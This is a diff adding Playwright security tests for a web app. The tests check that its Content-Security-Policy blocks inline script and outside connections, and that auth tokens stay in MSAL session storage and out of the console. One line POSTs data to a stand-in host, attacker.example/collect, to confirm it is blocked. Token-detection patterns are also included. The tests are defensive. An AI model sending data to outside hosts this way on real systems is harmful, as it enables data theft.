@@ -1,0 +1,60 @@
+import { accounts, expect, signIn, subscriptionNamed, test } from "./support";
+
+test("the built app runs under a Content-Security-Policy: no inline script, connections only to the configured endpoints", async ({ page }) => {
+  const violations: string[] = [];
+  await page.exposeFunction("reportViolation", (directive: string) => violations.push(directive));
+  await page.addInitScript(() => {
+    document.addEventListener("securitypolicyviolation", (event) => {
+      void (window as unknown as { reportViolation: (d: string) => Promise<void> }).reportViolation(event.effectiveDirective);
+    });
+  });
+  await signIn(page, accounts.owner);
+
+  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').first().getAttribute("content");
+  expect(policy).toContain("script-src 'self'");
+
+  const inlineRan = await page.evaluate(async () => {
+    const script = document.createElement("script");
+    script.textContent = "window.inlineScriptRan = true";
+    document.body.append(script);
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    return (window as unknown as { inlineScriptRan?: boolean }).inlineScriptRan === true;
+  });
+  expect(inlineRan).toBe(false);
+
+  const elsewhere = await page.evaluate(() =>
+    fetch("https://attacker.example/collect", { method: "POST", body: "x" }).then(
+      () => "sent",
+      () => "blocked",
+    ),
+  );
+  expect(elsewhere).toBe("blocked");
+  await expect.poll(() => violations).toEqual(expect.arrayContaining(["script-src-elem", "connect-src"]));
+});
+
+test("tokens stay in MSAL's session storage and nothing sensitive reaches the console", async ({ page }) => {
+  const console: string[] = [];
+  page.on("console", (message) => console.push(message.text()));
+  page.on("pageerror", (error) => console.push(error.message));
+
+  await signIn(page, accounts.owner, "/defender/environment-settings");
+  await page.getByRole("link", { name: subscriptionNamed("Contoso AI Research").displayName }).click();
+  await page.getByRole("row", { name: /AI workloads/ }).getByRole("link", { name: "Settings" }).click();
+  await page.getByRole("switch", { name: "Enable user prompt evidence" }).click();
+  await page.getByRole("button", { name: "Continue" }).click();
+  await page.getByRole("button", { name: "Save" }).click();
+  await expect(page.getByText("Saved", { exact: true })).toBeVisible();
+
+  const storage = await page.evaluate(() => ({
+    local: Object.entries(localStorage),
+    session: Object.entries(sessionStorage),
+  }));
+  const jwt = /eyJ[\w-]+\.[\w-]+\./;
+  expect(storage.local.filter(([, value]) => jwt.test(value))).toEqual([]);
+  const sessionWithTokens = storage.session.filter(([, value]) => jwt.test(value)).map(([key]) => key);
+  expect(sessionWithTokens.length).toBeGreaterThan(0);
+  // MSAL's cache entries only (their keys carry the account's home id or MSAL's prefix).
+  for (const key of sessionWithTokens) expect(key).toMatch(/msal|login\.windows\.net|localhost|-accesstoken-|-idtoken-|-refreshtoken-/i);
+
+  expect(console.filter((line) => jwt.test(line) || /Bearer |[?#&]code=|refresh_token/i.test(line))).toEqual([]);
+});
